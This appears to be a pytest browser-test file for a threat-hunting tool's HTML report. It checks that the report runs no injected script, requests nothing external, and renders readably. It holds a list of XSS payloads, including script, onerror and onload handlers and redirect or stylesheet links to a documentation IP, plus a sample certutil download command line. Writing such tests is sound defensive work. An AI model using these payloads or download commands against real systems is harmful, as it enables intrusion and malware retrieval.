"""The report in headless Chromium: nothing runs that is not ours, nothing is asked for."""

import json
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import polars as pl
import pytest

import huntkit
from huntkit.report import report
from huntkit.sources.demo import make_demo

pytestmark = pytest.mark.browser

ATTACKS = [
    "<script>window.owned=1</script>",
    "<img src=x onerror='window.owned=1'>",
    "</script><script>window.owned=1</script>",
    "'\"><svg onload=window.owned=1>",
    "<meta http-equiv=refresh content='0;url=http://203.0.113.9/'>",
    "<link rel=stylesheet href=http://203.0.113.9/x.css>",
    "\u2028window.owned=1//",
]


class Seen:
    """What a page did."""

    def __init__(self, page: Any) -> None:
        self.page = page
        self.requests: list[str] = []
        self.complaints: list[str] = []
        page.on("request", lambda r: self.requests.append(r.url))
        page.on("console", lambda m: self.complaints.append(m.text))
        page.on("pageerror", lambda e: self.complaints.append(str(e)))

    def open(self, path: Path) -> Any:
        self.page.goto(path.as_uri())
        # Not by a function: its polling is an eval, which the page's policy rightly refuses.
        self.page.wait_for_selector("html[data-hk-ready]", state="attached")
        return self.page


def test_the_demo_report_draws_and_asks_for_nothing(browser: Any, tmp_path: Path) -> None:
    with huntkit.open(make_demo(tmp_path / "demo"), cache=False) as evidence:
        path = report(evidence).save(tmp_path / "r.html")
    seen = Seen(browser.new_page(viewport={"width": 1400, "height": 1000}))
    page = seen.open(path)
    assert page.evaluate("document.documentElement.dataset.hkFailed") == "0"
    assert seen.requests == [path.as_uri()]
    assert seen.complaints == []
    drawn = [text.strip() for text in page.locator("figure.hk-chart .hk-title").all_inner_texts()]
    assert drawn == [
        "Notable events",
        "Records per 2 min",
        "All processes",
        "Logons by account and host",
        "Programs and the addresses that they spoke with",
        "Addresses that spoke with one another (Zeek_conn)",
        "Bytes sent per 30 s (Zeek_conn)",
        "AWSCloudTrail",
    ]
    assert page.locator("figure.hk-chart .hk-message").count() == 0
    # One copy of the library for all of them.
    assert page.locator("script[type='application/x-packed']").count() == 1
    # Nothing is wider than the window, and a link of the contents leads to its section.
    assert page.evaluate("document.documentElement.scrollWidth") <= 1400
    page.click("nav a[href='#indicators']")
    assert page.evaluate("location.hash") == "#indicators"


@pytest.mark.parametrize("width", [700, 360])
def test_only_boxes_scroll_sideways_in_a_narrow_window(
    width: int, browser: Any, tmp_path: Path
) -> None:
    folder = tmp_path / ("f" * 120)
    folder.mkdir()
    start = {
        "Timestamp": "2026-03-03T09:00:00Z",
        "Type": "DeviceProcessEvents",
        "DeviceName": "w" * 60 + ".example",
        "ActionType": "ProcessCreated",
        "FileName": "powershell.exe",
        "ProcessCommandLine": "certutil -urlcache -f http://198.51.100.9/" + "a" * 300 + " a.exe",
        "ProcessId": 7,
        "InitiatingProcessFileName": "p" * 90 + ".exe",
        "InitiatingProcessId": 6,
    }
    (folder / ("a" * 90 + ".ndjson")).write_text(json.dumps(start))
    with huntkit.open(folder, cache=False) as evidence:
        path = report(evidence, title="t" * 200).save(tmp_path / "r.html")
    page = Seen(browser.new_page(viewport={"width": width, "height": 1000})).open(path)
    assert page.locator("#risky .finding").count() == 1
    assert page.evaluate("document.documentElement.scrollWidth") <= width


def test_hostile_text_does_not_run(
    browser: Any,
    tmp_path: Path,
    evidence: Callable[..., Any],
    process_rows: Callable[..., pl.DataFrame],
) -> None:
    rows = process_rows(
        *(
            {
                "DeviceName": text,
                "AccountName": text,
                "FolderPath": text,
                "FileName": text,
                "ProcessCommandLine": text,
                "ProcessId": number + 10,
                "_file": text,
                "_record": number,
            }
            for number, text in enumerate(ATTACKS)
        )
    )
    notable = rows.with_columns(
        ActionType=pl.lit("ServiceInstalled"),
        AdditionalFields=pl.col("ProcessCommandLine"),
        InitiatingProcessAccountName=pl.col("AccountName"),
    )
    given = evidence(
        {"DeviceProcessEvents": rows, "DeviceEvents": notable}, problems=ATTACKS, partial=True
    )
    path = report(given, title=ATTACKS[0]).save(tmp_path / "r.html")
    seen = Seen(browser.new_page())
    page = seen.open(path)
    page.wait_for_timeout(300)
    assert page.evaluate("window.owned") is None
    assert seen.requests == [path.as_uri()]
    assert seen.complaints == []


def every_section(text: Callable[[int], str]) -> dict[str, pl.DataFrame]:
    """Tables that fill every picture of the report, with some text in every column of text."""
    begin = datetime(2026, 3, 3, 9, tzinfo=UTC)

    def rows(count: int, minutes: float, **columns: Callable[[int], Any]) -> pl.DataFrame:
        return pl.DataFrame(
            {
                "TimeGenerated": [begin + timedelta(minutes=minutes * n) for n in range(count)],
                **{name: [value(n) for n in range(count)] for name, value in columns.items()},
                "_file": [text(n) for n in range(count)],
                "_record": list(range(count)),
            }
        ).with_columns(pl.col("TimeGenerated").dt.cast_time_unit("us"))

    return {
        "DeviceLogonEvents": rows(
            40, 2, AccountName=text, DeviceName=lambda n: text(n + 1), LogonType=text,
            RemoteIP=lambda n: text(n + 2), ActionType=lambda _: "LogonSuccess",
        ),
        "SecurityEvent": rows(
            40, 2, EventID=lambda n: 4624 if n % 2 else 4634, Computer=lambda _: text(0),
            TargetLogonId=lambda _: text(1), TargetUserName=lambda _: text(2), IpAddress=text,
            LogonTypeName=text,
        ),
        "DeviceNetworkEvents": rows(
            80, 1, InitiatingProcessFileName=text, DeviceName=text, LocalIP=text,
            RemoteIP=lambda n: text(n) if n < 40 else f"8.8.{n}.8" if n % 2 else f"1.1.{n}.1",
            RemotePort=text,
        ),
        "Zeek_conn": rows(
            80, 1, id_orig_h=text, id_resp_h=lambda n: text(n + 1), orig_bytes=lambda n: n * 100,
        ),
        "SigninLogs": rows(
            40, 2, UserPrincipalName=text, IPAddress=text, Location=text, AppDisplayName=text,
            ResultType=text,
        ),
    }  # fmt: skip


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_picture_draws_and_hostile_text_does_not_run_in_any(
    scheme: str, browser: Any, tmp_path: Path, evidence: Callable[..., Any]
) -> None:
    given = evidence(every_section(lambda n: ATTACKS[n % len(ATTACKS)] + str(n % 9)))
    path = report(given).save(tmp_path / "r.html")
    seen = Seen(browser.new_page(viewport={"width": 1400, "height": 1000}, color_scheme=scheme))
    page = seen.open(path)
    page.wait_for_timeout(300)
    assert page.evaluate("document.documentElement.dataset.hkFailed") == "0"
    assert page.evaluate("window.owned") is None
    assert seen.requests == [path.as_uri()]
    assert seen.complaints == []
    kinds = page.evaluate(
        "[...document.querySelectorAll('figure.hk-chart script.hk-data')]"
        ".map(each => JSON.parse(each.textContent).spec.kind)"
    )
    assert sorted(kinds) == [
        "geo_map", "matrix", "network", "network", "network", "parallel", "timeline_duration",
        "timeline_values", "timeseries",
    ]  # fmt: skip
    # Something is painted on each of them.
    painted = page.evaluate(
        """[...document.querySelectorAll('figure.hk-chart')].map(figure => Math.max(
            ...[...figure.querySelectorAll('canvas')].map(canvas => {
                const { width, height } = canvas;
                const bits = canvas.getContext('2d').getImageData(0, 0, width, height).data;
                const seen = new Set();
                for (let at = 0; at < bits.length; at += 4 * 97)
                    seen.add((bits[at] << 16) + (bits[at + 1] << 8) + bits[at + 2]);
                return seen.size; })))"""
    )
    assert min(painted) > 2
    assert page.evaluate("document.documentElement.scrollWidth") <= 1400


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_text_can_be_read_in_both_schemes(
    scheme: str, browser: Any, tmp_path: Path, evidence: Callable[..., Any]
) -> None:
    path = report(evidence({}, partial=True, problems=["x"])).save(tmp_path / "r.html")
    page = Seen(browser.new_page(color_scheme=scheme)).page
    page.goto(path.as_uri())
    worst = page.evaluate(
        """() => {
        const light = c => { const [r, g, b] = c.match(/[\\d.]+/g).map(Number).map(v => v / 255)
            .map(v => v <= .04045 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4);
            return .2126 * r + .7152 * g + .0722 * b; };
        const ground = e => { for (; e; e = e.parentElement) {
            const c = getComputedStyle(e).backgroundColor;
            if (c !== 'rgba(0, 0, 0, 0)') return c; } return 'rgb(255, 255, 255)'; };
        return Math.min(...[...document.querySelectorAll('p, li, dt, dd, h1, h2, td, th, a')]
            .filter(e => e.innerText && !e.matches('.skip, .hidden'))
            .map(e => { const a = light(getComputedStyle(e).color), b = light(ground(e));
                return (Math.max(a, b) + .05) / (Math.min(a, b) + .05); }));
        }"""
    )
    assert worst >= 4.5
